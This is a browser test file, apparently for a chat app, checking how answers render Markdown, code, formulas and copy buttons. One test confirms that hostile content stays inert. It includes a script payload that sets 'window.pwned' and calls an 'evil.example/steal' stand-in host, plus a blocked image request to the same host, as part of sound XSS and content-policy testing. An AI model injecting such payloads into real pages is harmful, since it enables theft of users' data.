"""Answers on the page: Markdown, code, formulas; and content that means harm, which does nothing."""

from __future__ import annotations

import pytest

from tests.browser.chromium import Tab
from tests.browser.conftest import ended, say

pytestmark = pytest.mark.browser


def test_markdown_is_drawn(tab: Tab) -> None:
    say(tab, "markdown")
    tab.wait(tab.has("no formula"))
    ended(tab)
    tab.wait("document.querySelectorAll('.katex').length === 3 && !!document.querySelector('.hl-keyword')")
    root = "document.querySelector('.answer .markdown')"
    for selector, count in {
        "h2": 1, "ol > li": 2, "ol ul > li": 2, "table tbody tr": 2, "blockquote": 1, "strong": 1, "s": 1,
        "a[target=_blank][rel~=noopener]": 2, ".maths-block .katex-display": 1,
    }.items():  # fmt: skip
        assert tab.run(f"{root}.querySelectorAll({selector!r}).length") == count, selector
    assert "b = b, a + b" in tab.text(".code pre")
    assert tab.text(".code pre").rstrip().endswith("return a")
    assert tab.run(tab.has("It costs $5 or $6"))
    assert tab.run(f"getComputedStyle({root}.querySelector('td:nth-child(2)')).textAlign") == "right"


def test_a_streamed_answer_is_what_a_reloaded_one_is(tab: Tab) -> None:
    say(tab, "markdown")
    tab.wait(tab.has("no formula"))
    ended(tab)
    drawn = "document.querySelectorAll('.katex').length === 3 && !!document.querySelector('.hl-keyword')"
    html = "document.querySelector('.answer .markdown').innerHTML"
    tab.wait(drawn)
    streamed = tab.run(html)
    tab.reload()
    tab.wait(drawn)
    assert tab.run(html) == streamed


def test_code_is_copied(tab: Tab) -> None:
    say(tab, "code 3")
    tab.wait(tab.has("row_2"))
    ended(tab)
    tab.run("navigator.clipboard.writeText = async (text) => { window.copied = text }")
    tab.click(".code-head button")
    assert tab.wait("window.copied") == "".join(f"row_{i} = {i} * 2  # line\n" for i in range(3)).rstrip("\n")
    tab.wait("document.querySelector('.code-head button').innerText === 'Copied'")
    assert tab.text("#announcements") == "Code copied"


def test_harmful_content_does_nothing(tab: Tab) -> None:
    say(tab, "evil")
    tab.wait(tab.has("a reference"))
    ended(tab)
    tab.wait("true")
    assert tab.run("window.pwned ?? null") is None
    root = "document.querySelector('.answer .markdown')"
    for selector in (
        "script",
        "img",
        "iframe",
        "style",
        "object",
        "link",
        "[onerror]",
        "[onclick]",
        "[onload]",
    ):
        assert tab.run(f"{root}.querySelectorAll({selector!r}).length") == 0, selector
    links = tab.run(f"[...{root}.querySelectorAll('a')].map((e) => e.protocol)")
    assert set(links) <= {"https:", "mailto:"}
    tab.run(
        f"[...{root}.querySelectorAll('span, .image-link')].forEach((e) => e.tagName === 'SPAN' && e.click())"
    )
    assert tab.run("window.pwned ?? null") is None
    assert tab.run(tab.has('<script>window.pwned = 1; fetch("https://evil.example/steal")</script>'))
    assert tab.run("getComputedStyle(document.body).display") != "none"


def test_the_policy_is_in_force(tab: Tab) -> None:
    blocked = tab.run(
        "new Promise((resolve) => {"
        "  addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective));"
        "  const image = new Image(); image.src = 'https://evil.example/x.png'; })"
    )
    assert blocked == "img-src"
    assert (
        tab.run(
            "(() => { try { document.body.innerHTML = 'x'; return 'set' } catch { return 'refused' } })()"
        )
        == "refused"
    )
    script = "(() => { try { return eval('1') } catch { return 'refused' } })()"
    found = tab.command(
        "Runtime.evaluate", expression=script, returnByValue=True, allowUnsafeEvalBlockedByCSP=False
    )
    assert found["result"]["value"] == "refused"
    tab.problems.clear()
    tab.requests[:] = [url for url in tab.requests if "evil.example" not in url]
